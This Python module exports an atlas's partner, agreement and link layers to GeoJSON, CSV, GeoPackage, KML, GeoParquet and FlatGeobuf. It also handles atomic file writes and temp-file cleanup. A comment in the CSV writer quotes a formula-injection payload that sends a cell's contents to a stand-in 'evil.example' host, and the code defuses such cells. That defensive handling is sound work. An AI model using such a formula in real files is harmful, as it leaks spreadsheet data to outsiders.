"""The three export layers (partners, agreements, links) as flat tables, and their writers.

Properties are flat (lists joined with "; ") so that a layer survives CSV and GeoPackage the
same as GeoJSON. GeoJSON is written here rather than by GeoDataFrame.to_json(): RFC 7946 wants
6 decimals, no crs, raw UTF-8 and a stable id, and a direct writer is also several times faster.
GeoParquet is the one columnar format with list types, so there sectors, types, parties and
agreement ids stay lists (table(lists=True)) and dates are dates.
"""
from __future__ import annotations

import json
import math
import os
import re
import stat
import tempfile
import threading
import weakref
from pathlib import Path
from xml.sax.saxutils import escape as xml_escape

import geopandas as gpd
import numpy as np
import pandas as pd
import shapely

from .atlas import CRS, Atlas
from .select import Selection

LAYERS = ("partners", "agreements", "links")
FORMATS = ("geojson", "csv", "gpkg", "kml", "parquet", "fgb")
MEDIA_TYPES = {
    "geojson": "application/geo+json",
    "csv": "text/csv; charset=utf-8",
    "gpkg": "application/geopackage+sqlite3",
    "kml": "application/vnd.google-earth.kml+xml",
    # No registered type for either: GeoParquet's spec names this one, FlatGeobuf's site this.
    "parquet": "application/vnd.apache.parquet",
    "fgb": "application/flatgeobuf",
}
SEP = "; "
DECIMALS = 6


class ExportError(ValueError):
    pass


def _join(values) -> str:
    return SEP.join(values) if values else ""


def _parties(parties) -> str:
    return SEP.join(f"{p.name} ({p.role})" if p.role else p.name for p in parties)


def _parties_zh(parties) -> list[str]:
    """The parties with their Chinese name and role where the data gives them (else English)."""
    out = []
    for p in parties:
        name, role = p.name_zh or p.name, p.role_zh or p.role
        out.append(f"{name}（{role}）" if role else name)
    return out


def _as_list(values) -> list:
    return list(values) if values else []


def _party_list(parties) -> list[dict]:
    return [{"name": p.name, "role": p.role or None, "name_zh": p.name_zh, "role_zh": p.role_zh}
            for p in parties]


def table(atlas: Atlas, selection: Selection, layer: str, *, lists: bool = False) -> gpd.GeoDataFrame:
    """A layer as a GeoDataFrame of flat properties, ready for any writer.

    lists=True keeps list-valued properties as lists (parties as {name, role, name_zh,
    role_zh} records) for the formats that have list types; otherwise they are joined with "; ".
    """
    if layer == "partners":
        p = selection.partners
        join = _as_list if lists else _join
        df = pd.DataFrame({
            "id": p["id"], "name_en": p["name_en"], "name_zh": p["name_zh"], "kind": p["kind"],
            "province": p["province"], "prefecture": p["prefecture"], "adcode": p["adcode"],
            "agreement_count": p["agreement_count"].astype("int64"),
            "first_date": p["first_date"], "last_date": p["last_date"],
            "types": p["types"].map(join), "sectors": p["sectors"].map(join),
            "agreement_ids": p["agreement_ids"].map(join),
            "geocode_precision": p["precision"].astype("int64"), "geocode_source": p["source"],
        })
        return gpd.GeoDataFrame(df.reset_index(drop=True), geometry=p.geometry.values, crs=CRS)
    if layer not in ("agreements", "links"):
        raise ExportError(f"unknown layer {layer!r}; use one of {', '.join(LAYERS)}")
    frame = selection.agreements if layer == "agreements" else selection.links
    df = pd.DataFrame(_row_columns(atlas, frame, lists=lists))
    return gpd.GeoDataFrame(df, geometry=frame.geometry.values, crs=CRS)


def _row_columns(atlas: Atlas, frame: pd.DataFrame, *, lists: bool = False) -> dict[str, np.ndarray]:
    """The agreements and links layers' properties, column by column, for rows of `frame`."""
    places = atlas.places
    where = places.reindex(frame["place_id"])
    # Plain list comprehensions: a pandas .map per column costs more than the work in it.
    sources = frame["sources"].tolist()
    first_source = [s[0] if s else None for s in sources]

    def objects(values) -> np.ndarray:
        out = np.empty(len(values), dtype=object)
        # Item by item: numpy would make lists of equal length into a second dimension.
        for i, v in enumerate(values):
            out[i] = v
        return out

    join, parties = (_as_list, _party_list) if lists else (_join, _parties)
    # A link has its own Shanghai-side site; an agreements row all of its sites.
    if "shanghai_site" in frame:
        site_lists = [(s,) for s in frame["shanghai_site"].tolist()]
    else:
        site_lists = frame["shanghai_sites"].tolist()
    name_en, name_zh = places["name_en"].to_dict(), places["name_zh"].to_dict()

    def site_names(names: dict) -> np.ndarray:
        if lists and "shanghai_site" not in frame:
            return objects([[n if isinstance(n, str) else None for n in (names[s] for s in ss)] for ss in site_lists])
        return objects([SEP.join(n if isinstance(n, str) else "" for n in (names[s] for s in ss))
                        if any(isinstance(names[s], str) for s in ss) else None for ss in site_lists])

    none = (None,) * 6
    fields = list(zip(*((s.title, s.title_zh, s.publisher, s.date, s.url, s.document) if s else none
                        for s in first_source))) or [()] * 6
    title, title_zh, publisher, date, url, document = (objects(list(column)) for column in fields)

    return {
        "id": frame["id"].to_numpy(),
        "agreement_id": frame["agreement_id"].to_numpy(),
        "place_id": frame["place_id"].to_numpy(),
        "place_name_en": where["name_en"].to_numpy(),
        "place_name_zh": where["name_zh"].to_numpy(),
        "province": where["province"].to_numpy(),
        "prefecture": where["prefecture"].to_numpy(),
        # A link's own site is one id; an agreements row's sites are a list where lists are kept.
        "shanghai_site": objects([list(ss) if lists and "shanghai_site" not in frame else SEP.join(ss)
                                  for ss in site_lists]),
        "shanghai_site_name_en": site_names(name_en),
        "shanghai_site_name_zh": site_names(name_zh),
        "title_en": frame["title_en"].to_numpy(),
        "title_zh": frame["title_zh"].to_numpy(),
        "date": frame["date"].to_numpy(),
        "date_precision": frame["date_precision"].to_numpy(),
        "date_end": frame["date_end"].to_numpy(),
        "date_end_precision": frame["date_end_precision"].to_numpy(),
        "date_note": frame["date_note"].to_numpy(),
        "date_note_zh": frame["date_note_zh"].to_numpy(),
        "status": frame["status"].to_numpy(),
        "part_of": frame["part_of"].to_numpy(),
        "parts": objects([join(v) or None for v in frame["parts"].tolist()]),
        "type": frame["type"].to_numpy(),
        "sectors": objects([join(v) for v in frame["sectors"].tolist()]),
        "value_cny": frame["value_cny"].to_numpy(),
        "parties": objects([parties(v) for v in frame["parties"].tolist()]),
        "parties_zh": objects([(_as_list if lists else _join)(_parties_zh(v)) for v in frame["parties"].tolist()]),
        "summary_en": frame["summary_en"].to_numpy(),
        "summary_zh": frame["summary_zh"].to_numpy(),
        "source_title": title,
        "source_title_zh": title_zh,
        "source_publisher": publisher,
        "source_date": date,
        "source_url": url,
        "source_document": document,
        "source_count": np.array([len(s) for s in sources], dtype="int64"),
        "geocode_precision": where["precision"].astype("int64").to_numpy(),
        "geocode_source": where["source"].to_numpy(),
    }


# -- writers -----------------------------------------------------------------------------------

def render(atlas: Atlas, selection: Selection, layer: str, fmt: str, *, members: dict | None = None) -> bytes:
    """A layer in a format. `members` are extra top-level members of a GeoJSON
    FeatureCollection, after its features (the OGC API's links and counts)."""
    if fmt not in FORMATS:
        raise ExportError(f"unknown format {fmt!r}; use one of {', '.join(FORMATS)}")
    if fmt == "geojson":
        tail = "".join(f",{json.dumps(k)}:{json.dumps(v, ensure_ascii=False, separators=(',', ':'))}"
                       for k, v in (members or {}).items())
        if layer in ("agreements", "links"):
            body = _geojson_rows(atlas, selection, layer, tail)
            if body is not None:
                return body
        return to_geojson(table(atlas, selection, layer), layer, tail)
    gdf = table(atlas, selection, layer, lists=fmt == "parquet")
    writers = {"csv": to_csv, "gpkg": to_gpkg, "kml": to_kml,
               "parquet": to_parquet, "fgb": to_fgb}
    return writers[fmt](gdf, layer)


def _clean(value):
    if value is None:
        return None
    if isinstance(value, float):
        if math.isnan(value):
            return None
        return int(value) if value.is_integer() else value
    if hasattr(value, "item"):  # numpy scalars
        return _clean(value.item())
    return value


def _json_value(value) -> str:
    """One property value as JSON text, cleaned as _clean() does (NaN and NA are null, whole
    floats are integers)."""
    if value is None or value is pd.NA:
        return "null"
    if isinstance(value, float):
        if math.isnan(value):
            return "null"
        if value.is_integer():
            return str(int(value))
        return repr(value) if math.isfinite(value) else json.dumps(value)
    if isinstance(value, str):
        return _json_string(value)
    if isinstance(value, int) and not isinstance(value, bool):
        return str(value)
    return json.dumps(_clean(value), ensure_ascii=False, separators=(",", ":"))


# What json.dumps(text, ensure_ascii=False) runs, without its per-call set-up.
_json_string = getattr(json.encoder, "c_encode_basestring", None) or json.encoder.py_encode_basestring


def _json_column(series: pd.Series | np.ndarray, prefix: str = "") -> list[str]:
    """A column's values as JSON texts after `prefix`, each distinct value (names, types,
    sources) encoded once: pandas factorises the column in C, missing values coming out as -1."""
    values = series.tolist()
    try:  # a text column without gaps: the C encoder straight over it
        texts = list(map(_json_string, values))
        return [prefix + t for t in texts] if prefix else texts
    except TypeError:
        pass
    try:
        codes, uniques = pd.factorize(series, use_na_sentinel=True)
    except TypeError:  # unhashable values: one by one
        return [prefix + _json_value(v) for v in values]
    uniques = uniques.tolist()
    try:  # text columns, the most and the longest: the C encoder over all of them at once
        texts = list(map(_json_string, uniques))
    except TypeError:
        texts = [_json_value(v) for v in uniques]
    texts = np.array([prefix + t for t in texts] + [prefix + "null"], dtype=object)
    return texts[codes].tolist()


def to_geojson(gdf: gpd.GeoDataFrame, layer: str = "", tail: str = "") -> bytes:
    """RFC 7946: [lon, lat], 6 decimals, no crs, stable ids, UTF-8 as is.

    Written as text column by column rather than through one big json.dumps of nested dicts:
    the same bytes (json's float and string forms), in about half the time.
    """
    ids, props = _properties_json(gdf)
    return _collection(ids, _geometries_json(gdf.geometry.values), props, tail)


def _geometries_json(geoms) -> list[str]:
    coords = shapely.get_coordinates(geoms).round(DECIMALS)
    counts = shapely.get_num_coordinates(geoms).tolist()
    points = [f"[{x!r},{y!r}]" for x, y in zip(coords[:, 0].tolist(), coords[:, 1].tolist())]
    geometries = []
    i = 0
    for n in counts:
        if n == 1:
            geometries.append('{"type":"Point","coordinates":' + points[i] + "}")
        else:
            geometries.append('{"type":"LineString","coordinates":[' + ",".join(points[i:i + n]) + "]}")
        i += n
    return geometries


def _properties_json(gdf) -> tuple[list[str], list[str]]:
    """Each row's id, and its properties as the text between the braces of an object, from a
    (Geo)DataFrame or a dict of columns."""
    cols = [c for c in gdf.keys() if c != "geometry"]
    # One format per row: '"id":{},"agreement_id":{},...' filled with the columns' texts.
    template = ",".join(json.dumps(c, ensure_ascii=False).replace("{", "{{").replace("}", "}}") + ":{}"
                        for c in cols)
    columns = [_json_column(gdf[c]) for c in cols]
    return columns[cols.index("id")], [template.format(*row) for row in zip(*columns)]


def _collection(ids: list[str], geometries: list[str], props: list[str], tail: str = "") -> bytes:
    # One join over all the pieces: the text is copied once, then encoded.
    pieces = ['{"type":"FeatureCollection","features":[']
    first = True
    for fid, geometry, p in zip(ids, geometries, props):
        pieces += ('{"type":"Feature","id":' if first else ',{"type":"Feature","id":', fid,
                   ',"geometry":', geometry, ',"properties":{', p, "}}")
        first = False
    pieces += ("]", tail, "}")
    return "".join(pieces).encode("utf-8")


# Every agreements and links row's properties as JSON text, made once per Atlas (per data
# version) and layer: any filter picks rows among them, so after the first export an export of
# 10,000 rows is a join of ready-made texts.
_ROW_JSON: "weakref.WeakKeyDictionary[Atlas, dict[str, tuple[list[str], list[str]]]]" = weakref.WeakKeyDictionary()
_ROW_JSON_LOCK = threading.Lock()


def warm_up(atlas: Atlas) -> None:
    """Make the row texts now (the web app does, in a thread, after its first request)."""
    _row_json(atlas, "agreements")
    _row_json(atlas, "links")


def _row_json(atlas: Atlas, layer: str) -> tuple[list[str], list[str]]:
    with _ROW_JSON_LOCK:  # one computation, however many requests ask at once
        texts = _ROW_JSON.setdefault(atlas, {})
        found = texts.get(layer)
        if found is None:
            frame = atlas.agreements if layer == "agreements" else atlas.links
            # The columns as they are, without the DataFrame that table() makes of them.
            found = texts[layer] = _properties_json(_row_columns(atlas, frame))
        return found


def _geojson_rows(atlas: Atlas, selection: Selection, layer: str, tail: str = "") -> bytes | None:
    """The agreements or links layer from the atlas's ready-made row texts; None if the
    selection's rows are not the atlas's own."""
    frame = selection.agreements if layer == "agreements" else selection.links
    own = atlas.agreements if layer == "agreements" else atlas.links
    positions = own.index.get_indexer(frame.index)
    if len(positions) and positions.min() < 0:
        return None
    ids, props = _row_json(atlas, layer)
    return _collection([ids[i] for i in positions], _geometries_json(frame.geometry.values),
                       [props[i] for i in positions], tail)


def to_csv(gdf: gpd.GeoDataFrame, layer: str = "") -> bytes:
    """UTF-8 with a BOM so that Excel shows Chinese; points as lon/lat, lines as WKT."""
    df = pd.DataFrame(gdf.drop(columns="geometry"))
    geoms = gdf.geometry.values
    if layer == "links":
        df["wkt"] = shapely.to_wkt(geoms, rounding_precision=DECIMALS, trim=True)
    else:
        df["lon"] = shapely.get_x(geoms).round(DECIMALS)
        df["lat"] = shapely.get_y(geoms).round(DECIMALS)
    if "value_cny" in df:
        df["value_cny"] = df["value_cny"].astype("Int64")
    for col in df.columns:
        if df[col].dtype == object or pd.api.types.is_string_dtype(df[col].dtype):
            df[col] = pd.Series([defuse_cell(v) for v in df[col].tolist()], index=df.index, dtype=object)
    return df.to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")


# CSV formula injection (OWASP): a spreadsheet runs a cell that starts with one of these as a
# formula, e.g. =HYPERLINK("http://evil.example/?"&A1, "Click"). Such a text cell gets a
# leading apostrophe, which spreadsheets show as text; a negative number stays a number.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def defuse_cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def _via_file(gdf: gpd.GeoDataFrame, layer: str, suffix: str, **kwargs) -> bytes:
    import pyogrio

    _sweep_temp_dirs()
    with tempfile.TemporaryDirectory(prefix=f"{TEMP_PREFIX}{os.getpid()}-") as tmp:
        path = Path(tmp) / f"{layer or 'layer'}{suffix}"
        pyogrio.write_dataframe(gdf, path, layer=layer or "layer", **kwargs)
        return path.read_bytes()


def to_gpkg(gdf: gpd.GeoDataFrame, layer: str = "") -> bytes:
    import pyogrio

    # A fixed timestamp keeps the file byte-identical for the same data (GeoPackage records one).
    pyogrio.set_gdal_config_options({"OGR_CURRENT_DATE": "2000-01-01T00:00:00.000Z"})
    out = gdf.copy()
    if "value_cny" in out:
        # INTEGER with NULLs: yuan amounts are whole numbers (13.7 billion fits in 64 bits).
        out["value_cny"] = out["value_cny"].astype("Int64")
    return _via_file(out, layer, ".gpkg", driver="GPKG")


def to_kml(gdf: gpd.GeoDataFrame, layer: str = "") -> bytes:
    """KML 2.2 through GDAL's KML driver, with each Placemark's id set to the feature's stable id.

    GDAL numbers Placemarks by position ("agreements.1"), and GDAL's LIBKML reader (what
    geopandas and QGIS use) reads that number back as the `id` field, hiding the `id` kept in
    ExtendedData. So the positional ids are replaced by the stable ones, in feature order.
    """
    out = gdf.copy()
    name_col = "title_en" if "title_en" in out else "name_en"
    out.insert(0, "Name", out[name_col])
    if "value_cny" in out:
        out["value_cny"] = out["value_cny"].astype("float64")
    for col in out.columns:
        # KML's schema has 32-bit ints only; GDAL would declare int64 columns as strings.
        if col != "geometry" and out[col].dtype == "int64":
            out[col] = out[col].astype("int32")
    data = _via_file(out, layer, ".kml", driver="KML", dataset_options={"NameField": "Name"})
    return _stable_placemark_ids(data, layer or "layer", [str(i) for i in gdf["id"]])


def _stable_placemark_ids(data: bytes, layer: str, ids: list[str]) -> bytes:
    pattern = re.compile(rb'<Placemark id="' + re.escape(layer.encode()) + rb'\.\d+">')
    if len(pattern.findall(data)) != len(ids):  # not the GDAL output we know: leave it be
        return data
    it = iter(ids)
    return pattern.sub(lambda m: b'<Placemark id="' + xml_escape(next(it), {'"': "&quot;"}).encode() + b'">', data)


# Columns holding ISO dates (YYYY-MM-DD), written as Parquet dates.
DATE_COLUMNS = ("date", "date_end", "first_date", "last_date", "source_date")


def to_parquet(gdf: gpd.GeoDataFrame, layer: str = "") -> bytes:
    """GeoParquet 1.1 through geopandas and pyarrow: WKB geometry, the CRS as PROJJSON, a
    bounding-box covering column so that readers can skip row groups, lists as lists and
    dates as dates."""
    import io

    out = gdf.copy()
    if "value_cny" in out:
        out["value_cny"] = out["value_cny"].astype("Int64")
    for col in DATE_COLUMNS:
        if col in out:
            out[col] = _dates(out[col])
    buffer = io.BytesIO()
    out.to_parquet(buffer, index=False, compression="zstd", schema_version="1.1.0",
                   write_covering_bbox=True)
    return buffer.getvalue()


def _dates(column: pd.Series) -> pd.Series:
    """ISO date strings as datetime.date (pyarrow writes date32); left as text if any is not one."""
    import datetime as dt

    try:
        values = [dt.date.fromisoformat(v) if isinstance(v, str) else None for v in column.tolist()]
    except ValueError:
        return column
    return pd.Series(values, index=column.index, dtype=object)


def to_fgb(gdf: gpd.GeoDataFrame, layer: str = "") -> bytes:
    """FlatGeobuf through GDAL, with its packed R-tree index (GDAL's default)."""
    out = gdf.copy()
    if "value_cny" in out:
        out["value_cny"] = out["value_cny"].astype("Int64")
    return _via_file(out, layer, ".fgb", driver="FlatGeobuf")


def write_atomic(data: bytes, output: Path) -> None:
    """Write whole or not at all: a half-written export must never be left behind.

    The bytes go to a temporary file beside `output`, which replaces `output` only once they
    are all on disk; on any failure the temporary file is removed and an earlier `output` is
    left as it was. A process killed outright (SIGKILL, a power cut) cannot remove it: its name
    carries the writer's process id, and the next write to the same file removes those whose
    writer is gone. The new file gets the usual permissions (those of the file it replaces, or
    0666 less the umask) rather than mkstemp's private 0600. Errors name `output`, not the
    temporary file.
    """
    output = Path(output)
    folder = output.parent if str(output.parent) else Path(".")
    _sweep_parts(folder, output.name)
    try:
        fd, tmp = tempfile.mkstemp(dir=folder, prefix=f".{output.name}.{os.getpid()}.", suffix=".part")
    except OSError as exc:
        raise OSError(exc.errno, exc.strerror, str(output)) from exc
    try:
        with os.fdopen(fd, "wb") as fh:
            fh.write(data)
            fh.flush()
            os.fsync(fh.fileno())
        os.chmod(tmp, _new_file_mode(output))
        os.replace(tmp, output)
    except BaseException as exc:
        try:
            os.unlink(tmp)
        except FileNotFoundError:
            pass
        if isinstance(exc, OSError) and exc.errno is not None and exc.filename in (None, tmp):
            raise OSError(exc.errno, exc.strerror, str(output)) from exc
        raise


# -- what a killed process leaves behind ---------------------------------------------------------

TEMP_PREFIX = "geomap-"
_swept = threading.Lock()
_swept_dirs = False


def _gone(pid: int) -> bool:
    """True if no process has this id (so its temporary files are nobody's)."""
    if pid == os.getpid() or pid <= 0:
        return False
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return True
    except (PermissionError, OSError):
        return False
    return False


def _sweep_parts(folder: Path, name: str) -> None:
    """Remove `.name.<pid>.*.part` files beside an export whose writer is gone."""
    pattern = re.compile(rf"\.{re.escape(name)}\.([0-9]+)\.[^/]*\.part")
    try:
        entries = list(os.scandir(folder))
    except OSError:
        return
    for entry in entries:
        m = pattern.fullmatch(entry.name)
        if m and _gone(int(m.group(1))):
            try:
                if entry.stat(follow_symlinks=False).st_uid == os.getuid():
                    os.unlink(entry.path)
            except OSError:
                pass


def _sweep_temp_dirs() -> None:
    """Once per process: remove the GDAL work folders (<tmp>/geomap-<pid>-*) of dead processes."""
    global _swept_dirs
    with _swept:
        if _swept_dirs:
            return
        _swept_dirs = True
    import shutil

    pattern = re.compile(rf"{re.escape(TEMP_PREFIX)}([0-9]+)-[^/]+")
    try:
        entries = list(os.scandir(tempfile.gettempdir()))
    except OSError:
        return
    for entry in entries:
        m = pattern.fullmatch(entry.name)
        try:
            if (m and entry.is_dir(follow_symlinks=False) and _gone(int(m.group(1)))
                    and entry.stat(follow_symlinks=False).st_uid == os.getuid()):
                shutil.rmtree(entry.path, ignore_errors=True)
        except OSError:
            pass


def _new_file_mode(output: Path) -> int:
    try:
        return stat.S_IMODE(os.stat(output).st_mode)
    except OSError:
        return 0o666 & ~_umask()


def _umask() -> int:
    try:  # Linux: read it without changing it (os.umask can only set it, racing other threads)
        with open("/proc/self/status", encoding="ascii") as fh:
            for line in fh:
                if line.startswith("Umask:"):
                    return int(line.split()[1], 8)
    except (OSError, ValueError, IndexError):
        pass
    mask = os.umask(0o022)
    os.umask(mask)
    return mask
